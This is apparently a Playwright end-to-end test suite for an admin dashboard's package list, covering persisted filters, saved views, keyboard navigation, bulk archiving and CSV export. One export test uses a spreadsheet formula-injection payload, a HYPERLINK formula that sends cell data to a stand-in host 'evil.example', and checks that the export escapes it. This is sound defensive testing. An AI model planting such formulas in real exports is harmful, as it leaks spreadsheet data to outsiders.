import { readFile } from 'node:fs/promises'
import { expect, type Page } from '@playwright/test'
import { failedToLoad } from '../src/complaints.ts'
import { answerJson } from '../src/faults/fault.ts'
import { phone } from '../src/frame.ts'
import { openPackageScreen } from '../src/package-screen.ts'
import { openFromMenu, sections } from '../src/sections.ts'
import { test } from '../src/test.ts'

const [, , coupons, ...others] = sections
const isPackageList = ({ pathname }: URL, method: string) =>
  pathname.endsWith('/packages') && method === 'GET'

const namesOf = (page: Page) => page.getByRole('row').getByRole('link').allTextContents()
const searchOf = (page: Page) => page.getByRole('searchbox')
const statusOf = (page: Page, name: string) => page.getByRole('radio', { name, exact: true })

async function openPanel(page: Page) {
  await page.getByRole('button', { name: 'View options' }).click()
  return page.getByRole('region', { name: 'View options' })
}

test('filter, search and sort survive a reload, and Back brings them with the scroll and the focused row', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.setViewportSize({ width: 1280, height: 500 })
  await page.goto('/packages/')
  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Published').click()
  await page.getByRole('columnheader', { name: 'Price' }).click()
  await searchOf(page).fill('co')
  const address = '/packages/?status=published&sort=price&q=co'
  await expect(page).toHaveURL(address)
  const names = await namesOf(page)
  expect(names.length).toBeGreaterThan(3)
  await page.reload()
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  expect(await namesOf(page)).toEqual(names)
  await expect(searchOf(page)).toHaveValue('co')
  await expect(statusOf(page, 'Published')).toBeChecked()

  await searchOf(page).press('ArrowDown')
  for (let step = 0; step < 3; step += 1) await page.keyboard.press('ArrowDown')
  const focused = page.getByRole('row').filter({ hasText: names[3] ?? '' })
  await expect(focused).toBeFocused()
  await page.mouse.wheel(0, 200)
  await expect.poll(() => page.evaluate(() => scrollY)).toBeGreaterThan(50)
  const scroll = await page.evaluate(() => scrollY)
  if (coupons !== undefined) await openFromMenu(page, coupons)
  await page.goBack()
  await expect(page).toHaveURL(address)
  await expect(focused).toBeFocused()
  expect(await namesOf(page)).toEqual(names)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
})

test('the export holds what is shown, and what a spreadsheet would run is kept from running', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.goto('/packages/')
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Prize")'
  const screen = openPackageScreen(page)
  await screen.create({ name: hostile, coins: '10', gems: '1', price: '1.50' })
  await expect(screen.row(hostile)).toBeVisible()
  await searchOf(page).fill('hyperlink')
  await expect(page.getByText(/^1 of \d+ packages$/)).toBeVisible()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export as CSV' }).click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
  const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
  expect(head).toBe('\ufeffName,Coins,Gems,Price,Per coin,Status,Updated')
  expect(row).toMatch(/^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,0\.15,Draft,/)
  expect(rest).toEqual([''])
})

test('columns and density are chosen once and stay', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  const heading = (name: string) => page.getByRole('columnheader', { name, exact: true })
  const panel = await openPanel(page)
  const row = openPackageScreen(page).row('Family plan')
  const height = async () => (await row.boundingBox())?.height ?? 0
  const before = await height()
  await panel.getByRole('checkbox', { name: 'Created' }).check()
  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
  await panel.getByText('Compact').click()
  await page.keyboard.press('Escape')
  for (const visit of ['now', 'after a reload']) {
    if (visit !== 'now') await page.reload()
    await expect(heading('Created')).toBeVisible()
    await expect(heading('Gems')).toHaveCount(0)
    await expect.poll(height).toBeLessThan(before)
  }
})

test('a view is kept under a name, and its link shows a colleague the same', async ({
  page,
  context,
  signIn,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await signIn(page)
  await page.goto('/packages/?status=published&sort=-price')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  const names = await namesOf(page)
  const panel = await openPanel(page)
  await panel.getByLabel('Name of the view').fill('Dearest first')
  await panel.getByRole('button', { name: 'Save view' }).click()
  await panel.getByRole('button', { name: 'Copy a link to this view' }).click()
  await expect(page.getByText('Link copied')).toBeVisible()
  const link = await page.evaluate(() => navigator.clipboard.readText())

  await page.goto('/packages/')
  await expect(statusOf(page, 'All')).toBeChecked()
  await (await openPanel(page)).getByRole('button', { name: 'Dearest first', exact: true }).click()
  await expect(statusOf(page, 'Published')).toBeChecked()
  // The rows follow the toolbar.
  await expect.poll(() => namesOf(page)).toEqual(names)

  const colleague = await context.newPage()
  await colleague.goto(link)
  await expect(colleague.getByRole('row').nth(1)).toBeVisible()
  await expect.poll(() => namesOf(colleague)).toEqual(names)
})

test('from the search to a row and its actions without a mouse', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.keyboard.press('/')
  await expect(searchOf(page)).toBeFocused()
  await page.keyboard.type('gem box')
  await expect(page.getByText(/^\d of \d+ packages$/)).toBeVisible()
  // The rows follow the count.
  await expect.poll(() => page.getByRole('row').count()).toBeLessThan(10)
  await page.keyboard.press('ArrowDown')
  await expect(page.getByRole('row').nth(1)).toBeFocused()
  await page.keyboard.press('x')
  await expect(page.getByText('1 package selected')).toBeVisible()
  await page.keyboard.press('.')
  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeVisible()
  await page.keyboard.press('Enter')
  const form = page.getByRole('dialog')
  await expect(form.getByLabel('Name')).toHaveValue(/^Gem box/)
  await page.keyboard.press('Escape')
  await expect(form).toHaveCount(0)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
})

test('a bulk action says of each record what became of it, and tries again only what is left', async ({
  page,
  signIn,
  testConsole,
  complaints,
}) => {
  complaints.allow(failedToLoad)
  await signIn(page)
  await page.goto('/packages/?q=term+coins')
  const rows = page.getByRole('row').filter({ has: page.getByRole('link') })
  await expect(rows.nth(1)).toBeVisible()
  const count = await rows.count()
  await page.getByRole('checkbox', { name: 'Select this page' }).check()
  testConsole.server.fail({
    match: ({ pathname }, method) => pathname.includes('/packages/') && method === 'PUT',
    fault: answerJson(422, { status: false, message: 'Learners are paying for it right now' }),
    times: 1,
  })
  await page.getByRole('region', { name: 'Selection' }).getByRole('button', { name: 'Archive' }).click()
  const dialog = page.getByRole('dialog')
  await expect(dialog).toContainText(`Archive ${count} packages?`)
  await dialog.getByRole('button', { name: 'Archive' }).click()
  await expect(dialog).toContainText(`Archived ${count - 1} of ${count} packages`)
  await expect(dialog.getByRole('row').filter({ hasText: 'Refused' })).toContainText(
    'Learners are paying for it right now',
  )
  await expect(dialog.getByRole('row').filter({ hasText: 'Archived' })).toHaveCount(count - 1)
  await dialog.getByRole('button', { name: 'Try the other 1 again' }).click()
  await expect(dialog).toContainText(`Archived ${count} of ${count} packages`)
  const writes = testConsole.server.requests.filter(({ method }) => method === 'PUT')
  expect(writes).toHaveLength(count + 1)
  await dialog.getByText('Close', { exact: true }).click()
  await page.reload()
  await expect(rows.filter({ hasText: 'Archived' })).toHaveCount(count)
})

test('loading, empty, no match: each says what it is', async ({ page, signIn, testConsole }) => {
  await signIn(page)
  testConsole.server.fail({ match: isPackageList, fault: { kind: 'slow', milliseconds: 1500 }, times: 1 })
  await page.goto('/packages/?q=nothing+is+called+so')
  await expect(page.getByRole('status', { name: 'Loading packages' })).toBeVisible()
  await expect(page.getByRole('heading', { name: 'No packages match' })).toBeVisible()
  await page.getByRole('button', { name: 'Clear filters' }).click()
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  testConsole.server.fail({ match: isPackageList, fault: answerJson(200, { status: true, data: [] }) })
  await page.reload()
  await expect(page.getByRole('heading', { name: 'No packages yet' })).toBeVisible()
  await page.getByRole('button', { name: 'Create the first package' }).click()
  await expect(page.getByRole('dialog').getByLabel('Name')).toBeVisible()
})

for (const { path } of [...(coupons === undefined ? [] : [coupons]), ...others]) {
  test(`${path} is searched, sorted and exported like every list`, async ({ page, signIn }) => {
    await signIn(page)
    await page.goto(path)
    await expect(page.getByRole('row').nth(1)).toBeVisible()
    await page.keyboard.press('/')
    await expect(searchOf(page)).toBeFocused()
    await page.keyboard.type('e')
    await expect(page).toHaveURL(`${path}?q=e`)
    await page.reload()
    await expect(searchOf(page)).toHaveValue('e')
    const panel = await openPanel(page)
    await expect(panel.getByRole('checkbox').first()).toBeVisible()
    await page.keyboard.press('Escape')
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export as CSV' }).click()
    expect((await download).suggestedFilename()).toMatch(/\.csv$/)
  })
}

test('on a phone a notice does not lie over what is done with the selected rows', async ({
  page,
  signIn,
}) => {
  await page.setViewportSize(phone)
  await signIn(page)
  await page.goto('/packages/')
  await page.getByRole('row').nth(1).getByRole('checkbox').check()
  const name = (await page.getByRole('row').nth(2).getByRole('link').textContent()) ?? ''
  const { remove, toast } = openPackageScreen(page)
  await remove(name)
  await expect(toast(name)).toBeVisible()
  const bar = page.getByRole('region', { name: 'Selection' })
  await expect(async () => {
    const [below, above] = await Promise.all([toast(name).boundingBox(), bar.boundingBox()])
    expect((above?.y ?? 0) + (above?.height ?? 0)).toBeLessThanOrEqual(below?.y ?? 0)
  }).toPass()
  await toast(name).getByRole('button', { name: 'Undo' }).click()
})
